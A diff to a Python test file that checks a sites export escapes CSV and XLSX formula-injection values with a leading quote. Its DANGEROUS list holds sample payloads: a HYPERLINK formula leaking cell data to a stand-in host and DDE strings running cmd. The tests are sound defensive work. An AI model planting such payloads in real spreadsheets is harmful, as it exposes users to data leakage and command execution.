@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import zipfile
 from collections.abc import Iterable
 from typing import Any
 
@@ -101,3 +103,46 @@ def test_export_round_trips_through_xlsx_and_csv(world: World) -> None:
     for content, name in ((data, "sites.xlsx"), (to_csv(spec=spec, rows=spec.export_rows()), "sites.csv")):
         preview = build_preview(spec=spec, rows=read_table(content, name))
         assert [r.action for r in preview.rows] == ["update"]
+
+
+# Cells a spreadsheet would run: a link that leaks data, a command (DDE), a function, arithmetic.
+DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
+             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTab"]
+# What the import reads back (it trims spaces and tabs around every value).
+READ_BACK = {*(name.strip() for name in DANGEROUS), "Feijenoord"}
+
+
+def _dangerous_sites(world: World) -> SiteSpec:
+    for name in DANGEROUS:
+        Site.objects.create(programme=world.programme, name=name, city="=1+1")
+    return SiteSpec(world.programme)
+
+
+def test_csv_export_writes_formulas_as_text(world: World) -> None:
+    spec = _dangerous_sites(world)
+    content = to_csv(spec=spec, rows=spec.export_rows())
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    exported = {row[0]: row[1] for row in rows[1:]}
+    for name in DANGEROUS:
+        assert "'" + name in exported, name  # OWASP: a leading ' makes the cell text
+        assert exported["'" + name] == "'=1+1"
+    assert exported["Feijenoord"] == "Rotterdam"  # ordinary text untouched
+    # Imported back, the mark comes off: the round trip changes nothing.
+    preview = build_preview(spec=spec, rows=read_table(content, "sites.csv"))
+    assert {r.values["name"] for r in preview.rows} == READ_BACK
+    assert {r.values["city"] for r in preview.rows} == {"=1+1", "Rotterdam"}
+
+
+def test_xlsx_export_writes_formulas_as_text_cells(world: World) -> None:
+    spec = _dangerous_sites(world)
+    content = to_xlsx(spec=spec, rows=spec.export_rows())
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for name in DANGEROUS:
+        name_cell, city_cell = cells[name][0], cells[name][1]
+        assert name_cell.data_type == "s" and name_cell.quotePrefix, name
+        assert city_cell.value == "=1+1" and city_cell.data_type == "s"
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # not one formula in the file
+    preview = build_preview(spec=spec, rows=read_table(content, "sites.xlsx"))
+    assert {r.values["name"] for r in preview.rows} == READ_BACK
